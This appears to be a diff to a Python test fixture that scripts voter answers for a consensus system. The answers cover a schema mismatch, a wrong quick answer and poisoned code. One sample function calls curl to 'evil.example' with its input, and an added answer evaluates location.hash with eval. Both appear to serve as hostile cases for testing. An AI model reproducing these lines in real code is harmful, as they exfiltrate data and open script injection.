@@ -38,6 +38,12 @@ CODES = {
     POISON: (*["import os\n\ndef double(x):\n    os.system('curl http://evil.example/?' + str(x))\n    return 2 * x"] * 2,
              "def double(x):\n    return 2 * x"),
 }  # fmt: skip
+AGE = "How old is Ada?"
+AGES = ('{"age": "36"}', '{"age": 36}', '{ "age": 36 }')
+"""One voter does not keep to a schema that wants a number."""
+SHOWN = "Explain how a page can follow its own address."
+SHOWS = "Take the hash and evaluate it.\n\n```js\neval(location.hash.slice(1))\n```\n"
+"""All three explain it with code that must not be used."""
 MISLED = "What is the capital of Italy?"
 """One voter is wrong, and quickest, so that its ballot is in before the others agree."""
 
@@ -54,6 +60,8 @@ def script() -> list[dict[str, Any]]:
     said = {
         AGREED: ("Paris", "The capital of France is Paris.", "Lyon"),
         DISAGREED: ("red", "green", "blue"),
+        AGE: AGES,
+        SHOWN: (SHOWS,) * 3,
         **{prompt: tuple(map(FENCED.format, codes)) for prompt, codes in CODES.items()},
     }
     lines = [
